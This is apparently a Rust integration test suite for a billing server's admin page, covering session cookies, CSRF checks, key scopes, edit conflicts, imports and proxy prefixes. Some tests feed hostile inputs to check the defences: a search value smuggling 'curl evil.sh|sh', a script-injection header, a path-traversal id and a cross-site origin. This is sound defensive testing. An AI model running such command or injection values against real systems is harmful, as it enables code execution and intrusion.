//! The admin page over real HTTP, on SQLite or PostgreSQL: sign-in and the
//! session cookie, CSRF, what a read-only key sees and may do, the conflict an
//! edit meets, the Stripe import, keys, a proxy's prefix, and `--no-admin`.
//! The browser flows are in server/admin-tests (scripts/admin-browser.sh).

mod common;

use common::{TestServer, http_client, unique};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

/// A browser without cookies or redirects: each test says what it sends.
struct Browser {
    client: reqwest::Client,
    url: String,
    cookie: Option<String>,
}

struct Page {
    status: StatusCode,
    location: String,
    set_cookie: String,
    csp: String,
    html: String,
}

impl Page {
    /// The CSRF token the page's forms carry.
    fn csrf(&self) -> String {
        let at = self.html.find("name=\"_csrf\" value=\"").expect("a form with a CSRF token") + 20;
        self.html[at..at + 64].to_owned()
    }
}

impl Browser {
    fn new(s: &TestServer) -> Self {
        let client = http_client().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        Browser { client, url: s.url.clone(), cookie: None }
    }

    async fn send(&self, method: Method, path: &str, form: Option<&[(&str, &str)]>, headers: &[(&str, &str)]) -> Page {
        let mut rb = self.client.request(method, format!("{}{path}", self.url));
        if let Some(c) = &self.cookie {
            rb = rb.header("cookie", c);
        }
        for (k, v) in headers {
            rb = rb.header(*k, *v);
        }
        if let Some(f) = form {
            rb = rb.header("content-type", "application/x-www-form-urlencoded").body(serde_urlencoded::to_string(f).unwrap());
        }
        let r = rb.send().await.expect("request");
        let h = |n: &str| r.headers().get(n).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
        let (status, location, set_cookie, csp) = (r.status(), h("location"), h("set-cookie"), h("content-security-policy"));
        Page { status, location, set_cookie, csp, html: r.text().await.unwrap_or_default() }
    }

    async fn get(&self, path: &str) -> Page {
        self.send(Method::GET, path, None, &[]).await
    }

    async fn post(&self, path: &str, form: &[(&str, &str)]) -> Page {
        self.send(Method::POST, path, Some(form), &[("sec-fetch-site", "same-origin")]).await
    }

    async fn sign_in(s: &TestServer, key: &str) -> Browser {
        let mut b = Browser::new(s);
        let p = b.post("/admin/signin", &[("key", key)]).await;
        assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.html);
        b.cookie = Some(p.set_cookie.split(';').next().unwrap().to_owned());
        b
    }
}

async fn restricted(s: &TestServer, scopes: &[&str]) -> String {
    let r = s.post("/api/keys", json!({ "scopes": scopes, "name": unique("admin") })).await;
    r.expect(201);
    r.body["secret"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn signing_in_keeps_the_key_in_a_strict_httponly_cookie_and_never_in_the_page() {
    let s = TestServer::start().await;
    let mut b = Browser::new(&s);
    let p = b.post("/admin/signin", &[("key", &s.key)]).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location, "/admin/");
    assert_eq!(p.set_cookie, format!("nb_admin={}; Path=/admin; HttpOnly; SameSite=Strict", s.key));
    b.cookie = Some(format!("nb_admin={}", s.key));
    s.customer(json!({ "name": "Ada" })).await;
    let p = b.get("/admin/customers").await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(p.html.contains("Ada"));
    assert!(!p.html.contains(&s.key), "the key must never be in a page");
    for directive in ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "form-action 'self'"] {
        assert!(p.csp.contains(directive), "{directive} in {}", p.csp);
    }
    // Sign out: the cookie is cleared, and the pages ask to sign in again.
    let out = b.post("/admin/signout", &[("_csrf", &p.csrf())]).await;
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    assert!(out.set_cookie.starts_with("nb_admin=;") && out.set_cookie.contains("Max-Age=0"), "{}", out.set_cookie);
    assert_eq!(Browser::new(&s).get("/admin/customers").await.location, "/admin/signin");
    s.stop().await;
}

#[tokio::test]
async fn a_key_that_cannot_sign_in_is_told_why_and_gets_no_cookie() {
    let s = TestServer::start().await;
    let revoked = restricted(&s, &["customers:read"]).await;
    let id = s.get("/api/keys").await.body["data"][0]["id"].as_str().unwrap().to_owned();
    s.delete(&format!("/api/keys/{id}")).await.expect(200);
    let c = s.customer(json!({})).await;
    let ek = s.post("/api/ephemeral-keys", json!({ "customerId": c["id"] })).await.body["secret"].as_str().unwrap().to_owned();
    let mut typo = s.key.clone();
    typo.pop();
    typo.push(if s.key.ends_with('A') { 'B' } else { 'A' });
    let unknown = novabilling_server::store::keys::new_key_text(novabilling::keys::KeyKind::Secret, true);
    for (key, says) in [
        ("", "Paste an API key"),
        ("hello", "That is not an API key"),
        (typo.as_str(), "checksum does not match"),
        (unknown.as_str(), "No such API key"),
        (revoked.as_str(), "was revoked"),
        (ek.as_str(), "ephemeral key belongs to one customer"),
    ] {
        let p = Browser::new(&s).post("/admin/signin", &[("key", key)]).await;
        assert_eq!(p.status, StatusCode::UNAUTHORIZED, "{key}");
        assert!(p.html.contains(says), "{key}: {says} in {}", p.html);
        assert!(p.set_cookie.is_empty());
    }
    // A good key posted from another site's form does not sign the visitor in.
    let p = Browser::new(&s).send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("sec-fetch-site", "cross-site")]).await;
    assert_eq!(p.status, StatusCode::UNAUTHORIZED);
    assert!(p.set_cookie.is_empty());
    s.stop().await;
}

#[tokio::test]
async fn pages_need_a_session_and_a_revoked_key_ends_it() {
    let s = TestServer::start().await;
    assert_eq!(Browser::new(&s).get("/admin/customers").await.location, "/admin/signin");
    let key = restricted(&s, &["customers:read", "keys:manage"]).await;
    let b = Browser::sign_in(&s, &key).await;
    assert_eq!(b.get("/admin/customers").await.status, StatusCode::OK);
    let id = s.get("/api/keys").await.body["data"][0]["id"].as_str().unwrap().to_owned();
    s.delete(&format!("/api/keys/{id}")).await.expect(200);
    let p = b.get("/admin/customers").await;
    assert_eq!(p.location, "/admin/signin?why=ended");
    assert!(p.set_cookie.contains("Max-Age=0"));
    s.stop().await;
}

#[tokio::test]
async fn every_write_needs_the_sessions_token_from_this_site() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "name": "Before" })).await;
    let id = c["id"].as_str().unwrap();
    let b = Browser::sign_in(&s, &s.key).await;
    let page = b.get(&format!("/admin/customers/{id}")).await;
    let token = page.csrf();
    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
    let form = |t: &'static str| vec![("name", "Forged"), ("was_name", "Before"), ("etag", ""), ("_csrf", t)];
    let path = format!("/admin/customers/{id}");
    // No token, a wrong one, the right one from another site.
    assert_eq!(b.post(&path, &form("")).await.status, StatusCode::FORBIDDEN);
    assert_eq!(b.post(&path, &form("0000")).await.status, StatusCode::FORBIDDEN);
    let mut good = form("");
    good[3].1 = &token;
    good[2].1 = &etag;
    let cross = b.send(Method::POST, &path, Some(&good), &[("sec-fetch-site", "cross-site")]).await;
    assert_eq!(cross.status, StatusCode::FORBIDDEN);
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["name"], "Before");
    // The token of another key's session does not pass either.
    let other = restricted(&s, &["customers:read", "customers:write"]).await;
    let b2 = Browser::sign_in(&s, &other).await;
    let other_token = b2.get(&path).await.csrf();
    assert_ne!(other_token, token);
    let mut theirs = good.clone();
    theirs[3].1 = &other_token;
    assert_eq!(b.post(&path, &theirs).await.status, StatusCode::FORBIDDEN);
    let ok = b.post(&path, &good).await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.html);
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["name"], "Forged");
    s.stop().await;
}

#[tokio::test]
async fn a_read_only_key_sees_no_write_controls_and_a_forged_write_is_refused_by_the_api() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "name": "Kept" })).await;
    let id = c["id"].as_str().unwrap();
    s.post("/api/customers/import/stripe", json!([{ "id": unique("cus"), "email": format!("{}@example.com", unique("s")) }])).await.expect(200);
    let key = restricted(&s, &["customers:read"]).await;
    let b = Browser::sign_in(&s, &key).await;
    for path in ["/admin/customers".to_owned(), "/admin/customers?unresolved=1".into(), format!("/admin/customers/{id}")] {
        let p = b.get(&path).await;
        assert_eq!(p.status, StatusCode::OK, "{path}");
        for control in ["Save", "/bind\"", "Replace metadata", "Delete this customer", "/import\"", "/keys\"", "/webhooks\""] {
            assert!(!p.html.contains(control), "{path} shows {control}");
        }
    }
    let token = b.get(&format!("/admin/customers/{id}")).await.csrf();
    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
    let forged = b.post(&format!("/admin/customers/{id}"), &[("name", "Forged"), ("was_name", "Kept"), ("etag", &etag), ("_csrf", &token)]).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    assert!(forged.html.contains("customers:write"), "{}", forged.html);
    let del = b.post(&format!("/admin/customers/{id}/delete"), &[("_csrf", &token)]).await;
    assert_eq!(del.status, StatusCode::FORBIDDEN);
    let keys = b.post("/admin/keys", &[("scope", "customers:read"), ("_csrf", &token)]).await;
    assert_eq!(keys.status, StatusCode::FORBIDDEN);
    let got = s.get(&format!("/api/customers/{id}")).await;
    assert_eq!(got.body["name"], "Kept");
    s.stop().await;
}

#[tokio::test]
async fn an_edit_that_meets_a_concurrent_change_shows_both_and_overwrites_nothing() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "name": "Original", "country": "DE" })).await;
    let id = c["id"].as_str().unwrap();
    let b = Browser::sign_in(&s, &s.key).await;
    let page = b.get(&format!("/admin/customers/{id}")).await;
    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
    assert!(page.html.contains(&format!("name=\"etag\" value=\"{}\"", etag.replace('"', "&#34;"))) || page.html.contains(&etag));
    s.patch(&format!("/api/customers/{id}"), json!({ "name": "Theirs" })).await.expect(200);
    let form = [("name", "Mine"), ("was_name", "Original"), ("country", "FR"), ("was_country", "DE"), ("etag", &etag), ("_csrf", &page.csrf())];
    let p = b.post(&format!("/admin/customers/{id}"), &form).await;
    assert_eq!(p.status, StatusCode::CONFLICT);
    assert!(p.html.contains("Someone changed this customer"));
    assert!(p.html.contains("Mine") && p.html.contains("Theirs"), "both values shown");
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["name"], "Theirs");
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["country"], "DE");
    s.stop().await;
}

#[tokio::test]
async fn the_metadata_editor_replaces_the_object_and_keeps_text_it_refuses() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "metadata": { "a": "1", "b": "2" } })).await;
    let id = c["id"].as_str().unwrap();
    let b = Browser::sign_in(&s, &s.key).await;
    let page = b.get(&format!("/admin/customers/{id}")).await;
    assert!(page.html.contains("replaces the whole object"));
    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
    let path = format!("/admin/customers/{id}/metadata");
    let bad = b.post(&path, &[("metadata", "{\"c\": 3,"), ("etag", &etag), ("_csrf", &page.csrf())]).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.html.contains("not valid JSON") && bad.html.contains("{&#34;c&#34;: 3,"), "{}", bad.html);
    let ok = b.post(&path, &[("metadata", "{\"c\": \"3\"}"), ("etag", &etag), ("_csrf", &page.csrf())]).await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.html);
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["metadata"], json!({ "c": "3" }));
    s.stop().await;
}

#[tokio::test]
async fn the_list_filters_pages_and_says_what_is_wrong_with_a_bad_filter() {
    let s = TestServer::start().await;
    let tag = unique("find");
    for i in 0..25 {
        s.customer(json!({ "name": format!("{tag} {i}"), "country": if i % 5 == 0 { "FR" } else { "DE" } })).await;
    }
    let b = Browser::sign_in(&s, &s.key).await;
    let p = b.get(&format!("/admin/customers?q={tag}")).await;
    assert!(p.html.contains("25 customers · page 1 of 2"), "{}", p.html);
    assert!(p.html.contains("rel=\"next\""));
    let p = b.get(&format!("/admin/customers?q={tag}&country=FR")).await;
    assert!(p.html.contains("5 customers · page 1 of 1"));
    let p = b.get(&format!("/admin/customers?q={tag}&page=2")).await;
    assert!(p.html.contains("page 2 of 2") && p.html.contains("rel=\"prev\""));
    let p = b.get("/admin/customers?country=Germany").await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    assert!(p.html.contains("country"), "the API's message names the field");
    let p = b.get("/admin/customers?limit=1000").await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    s.stop().await;
}

#[tokio::test]
async fn binding_from_the_unresolved_queue_is_one_way() {
    let s = TestServer::start().await;
    let email = format!("{}@example.com", unique("b"));
    s.post("/api/customers/import/stripe", json!([{ "id": unique("cus"), "email": email }])).await.expect(200);
    let b = Browser::sign_in(&s, &s.key).await;
    let q = b.get("/admin/customers?unresolved=1").await;
    assert!(q.html.contains(&email) && q.html.contains("Binding is one-way"));
    let found = s.get(&format!("/api/customers?search={email}")).await;
    let id = found.body["data"][0]["id"].as_str().unwrap().to_owned();
    let user = unique("usr");
    let p = b.post(&format!("/admin/customers/{id}/bind"), &[("external_id", &user), ("from", "unresolved"), ("_csrf", &q.csrf())]).await;
    assert_eq!(p.location, "/admin/customers?unresolved=1&notice=bound");
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["externalId"], user.as_str());
    let again = b.post(&format!("/admin/customers/{id}/bind"), &[("external_id", "other"), ("_csrf", &q.csrf())]).await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    s.stop().await;
}

#[tokio::test]
async fn a_stripe_export_imports_in_batches_pasted_or_sent_as_a_file() {
    let s = TestServer::start().await;
    let run = unique("imp");
    let export: Vec<Value> =
        (0..1_200).map(|i| json!({ "id": format!("cus_{run}_{i}"), "email": format!("{run}.{i}@example.com") })).collect();
    let b = Browser::sign_in(&s, &s.key).await;
    let token = b.get("/admin/import").await.csrf();
    let text = json!({ "object": "list", "data": export[..700] }).to_string();
    let p = b.post("/admin/import", &[("export", &text), ("_csrf", &token)]).await;
    assert_eq!(p.status, StatusCode::OK, "{}", p.html);
    assert!(p.html.contains("700 of 700 customers sent: <strong>700 created</strong>, <strong>0 skipped</strong>"), "{}", p.html);
    // The file route answers a line per batch of 500.
    let r = http_client()
        .build()
        .unwrap()
        .post(format!("{}/admin/import/batch", s.url))
        .header("cookie", b.cookie.as_deref().unwrap())
        .header("x-csrf-token", &token)
        .header("content-type", "application/json")
        .body(Value::Array(export).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let lines: Vec<Value> = r.text().await.unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[2], json!({ "total": 1200, "done": 1200, "created": 500, "skipped": 700 }));
    let bad = b.post("/admin/import", &[("export", "{\"customers\": []}"), ("_csrf", &token)]).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.html.contains("JSON array of Stripe customers"));
    let no_token = b.send(Method::POST, "/admin/import/batch", None, &[("content-type", "application/json")]).await;
    assert_eq!(no_token.status, StatusCode::FORBIDDEN);
    s.stop().await;
}

#[tokio::test]
async fn a_key_made_on_the_page_is_shown_once_and_revoking_it_locks_it_out() {
    let s = TestServer::start().await;
    let b = Browser::sign_in(&s, &s.key).await;
    let token = b.get("/admin/keys").await.csrf();
    let name = unique("page-key");
    let p = b.post("/admin/keys", &[("name", &name), ("scope", "customers:read"), ("scope", "billing:read"), ("_csrf", &token)]).await;
    assert_eq!(p.status, StatusCode::CREATED, "{}", p.html);
    let marker = "id=\"minted-secret\">";
    let at = p.html.find(marker).unwrap() + marker.len();
    let secret = p.html[at..].split('<').next().unwrap().to_owned();
    assert!(secret.starts_with("rk_"), "{secret}");
    let call = |key: String| {
        let s = &s;
        async move { TestServer::send(s.client.get(format!("{}/api/customers", s.url)).bearer_auth(key)).await }
    };
    call(secret.clone()).await.expect(200);
    let list = b.get("/admin/keys").await;
    assert!(list.html.contains(&name) && !list.html.contains(&secret), "listed, never shown again");
    let id = s.get("/api/keys").await.body["data"].as_array().unwrap().iter().find(|k| k["name"] == name.as_str()).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let r = b.post(&format!("/admin/keys/{id}/revoke"), &[("_csrf", &token)]).await;
    assert_eq!(r.location, "/admin/keys?notice=revoked");
    call(secret).await.expect_error(401, "revoked_api_key");
    let bad = b.post("/admin/keys", &[("scope", "customers:fly"), ("_csrf", &token)]).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    s.stop().await;
}

#[tokio::test]
async fn delete_says_what_it_cancels_and_voids_first() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "currency": "EUR" })).await;
    let id = c["id"].as_str().unwrap();
    s.post("/api/subscriptions", json!({ "customerId": id, "planId": "pro" })).await.expect(201);
    s.post("/api/invoices", json!({ "customerId": id, "amount": 10, "currency": "EUR" })).await.expect(201);
    let b = Browser::sign_in(&s, &s.key).await;
    let confirm = b.get(&format!("/admin/customers/{id}/delete")).await;
    assert!(confirm.html.contains("cancels its <strong>1</strong> active subscription;"), "{}", confirm.html);
    assert!(confirm.html.contains("voids its <strong>1</strong> open invoice;"));
    let done = b.post(&format!("/admin/customers/{id}/delete"), &[("_csrf", &confirm.csrf())]).await;
    assert_eq!(done.location, "/admin/customers?notice=deleted");
    s.get(&format!("/api/customers/{id}")).await.expect(404);
    s.stop().await;
}

#[tokio::test]
async fn behind_a_proxy_links_and_the_cookie_carry_its_prefix() {
    let s = TestServer::start().await;
    let b = Browser::new(&s);
    let p = b
        .send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("x-forwarded-prefix", "/billing"), ("x-forwarded-proto", "https")])
        .await;
    assert_eq!(p.location, "/billing/admin/");
    assert!(p.set_cookie.contains("Path=/billing/admin") && p.set_cookie.contains("; Secure"), "{}", p.set_cookie);
    let b = Browser { cookie: Some(format!("nb_admin={}", s.key)), ..Browser::new(&s) };
    let page = b.send(Method::GET, "/admin/customers", None, &[("x-forwarded-prefix", "/billing")]).await;
    assert!(page.html.contains("href=\"/billing/admin/static/admin.css\""));
    assert!(page.html.contains("href=\"/billing/admin/keys\""));
    // A prefix that is not a plain path is ignored, not echoed.
    let odd = b.send(Method::GET, "/admin/customers", None, &[("x-forwarded-prefix", "/\"><script>")]).await;
    assert!(odd.html.contains("href=\"/admin/keys\"") && !odd.html.contains("<script>x"));
    s.stop().await;
}

#[tokio::test]
async fn an_id_in_the_url_cannot_reach_another_api_route() {
    let s = TestServer::start().await;
    let key = restricted(&s, &["customers:read", "keys:manage"]).await;
    let b = Browser::sign_in(&s, &key).await;
    let p = b.get("/admin/customers/..%2F..%2Fkeys").await;
    assert_eq!(p.status, StatusCode::NOT_FOUND, "{}", p.html);
    s.stop().await;
}

#[tokio::test]
async fn a_form_whose_body_stops_arriving_gets_408_within_the_request_timeout() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let s = TestServer::start_with(|o| o.connections.request_timeout = std::time::Duration::from_secs(1)).await;
    let mut conn = tokio::net::TcpStream::connect(s.url.trim_start_matches("http://")).await.unwrap();
    let head = format!(
        "POST /admin/import HTTP/1.1\r\nHost: x\r\nCookie: nb_admin={}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 100000\r\n\r\nexport=%5B",
        s.key
    );
    conn.write_all(head.as_bytes()).await.unwrap();
    let started = std::time::Instant::now();
    let mut buf = vec![0u8; 4096];
    let n = tokio::time::timeout(std::time::Duration::from_secs(10), conn.read(&mut buf)).await.expect("an answer").unwrap();
    let text = String::from_utf8_lossy(&buf[..n]);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    s.stop().await;
}

#[tokio::test]
async fn a_refused_save_keeps_the_version_it_was_based_on() {
    let s = TestServer::start().await;
    let c = s.customer(json!({ "name": "Loaded" })).await;
    let id = c["id"].as_str().unwrap();
    let b = Browser::sign_in(&s, &s.key).await;
    let page = b.get(&format!("/admin/customers/{id}")).await;
    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
    s.patch(&format!("/api/customers/{id}"), json!({ "name": "Theirs" })).await.expect(200);
    // A bad email is refused before the version is compared.
    let path = format!("/admin/customers/{id}");
    let form = |email: &'static str, tag: &str, token: &str| {
        vec![("name".to_owned(), "Mine".to_owned()), ("was_name".into(), "Loaded".into()), ("email".into(), email.into()),
             ("was_email".into(), c["email"].as_str().unwrap().into()), ("etag".into(), tag.into()), ("_csrf".into(), token.into())]
    };
    let send = |f: Vec<(String, String)>| {
        let pairs: Vec<(&str, &str)> = f.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let body = serde_urlencoded::to_string(&pairs).unwrap();
        b.client.post(format!("{}{path}", s.url)).header("cookie", b.cookie.clone().unwrap()).header("content-type", "application/x-www-form-urlencoded").body(body).send()
    };
    let refused = send(form("not-an-email", &etag, &page.csrf())).await.unwrap();
    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
    let html = refused.text().await.unwrap();
    // The form it answers with is still based on the version first loaded.
    let kept = html.split("name=\"etag\" value=\"").nth(1).unwrap().split('"').next().unwrap().replace("&#34;", "\"");
    assert_eq!(kept, etag);
    assert!(html.contains("name=\"was_name\" value=\"Loaded\""), "{html}");
    let again = send(form("fixed@example.com", &kept, &page.csrf())).await.unwrap();
    assert_eq!(again.status(), StatusCode::CONFLICT, "their change must not be overwritten");
    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["name"], "Theirs");
    // A garbled version is a 400, not a 500.
    let garbled = send(form("fixed@example.com", "\u{1}", &page.csrf())).await.unwrap();
    assert_eq!(garbled.status(), StatusCode::BAD_REQUEST);
    s.stop().await;
}

#[tokio::test]
async fn terminal_equivalents_quote_what_people_typed() {
    let s = TestServer::start().await;
    let b = Browser::sign_in(&s, &s.key).await;
    let p = b.get("/admin/customers?q=%00%27%3Bcurl%20evil.sh%7Csh%3B%27").await;
    // The command as the page shows it, read back as a shell reads it: one
    // argument, the typed text (without the NUL no argument can hold).
    let line = p.html.split("<pre><code>novabilling customers list").nth(1).unwrap().split("</code>").next().unwrap();
    let line = line.replace("&#39;", "'").replace("&#34;", "\"").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">");
    let args = shlex::split(&line).expect("a line a shell can read");
    assert_eq!(args, ["--search", "';curl evil.sh|sh;'"]);
    s.stop().await;
}

#[tokio::test]
async fn another_site_cannot_sign_a_visitor_in_or_move_the_redirects() {
    let s = TestServer::start().await;
    let b = Browser::new(&s);
    let p = b.send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("origin", "https://evil.example")]).await;
    assert_eq!(p.status, StatusCode::UNAUTHORIZED);
    let ok = b.send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("origin", &s.url)]).await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    let p = b.send(Method::GET, "/admin/customers", None, &[("x-forwarded-prefix", "//evil.example")]).await;
    assert_eq!(p.location, "/admin/signin");
    s.stop().await;
}

#[tokio::test]
async fn no_admin_turns_the_page_off() {
    let s = TestServer::start_with(|o| o.admin = false).await;
    assert_eq!(Browser::new(&s).get("/admin/signin").await.status, StatusCode::NOT_FOUND);
    s.get("/api/customers").await.expect(200);
    s.stop().await;
}
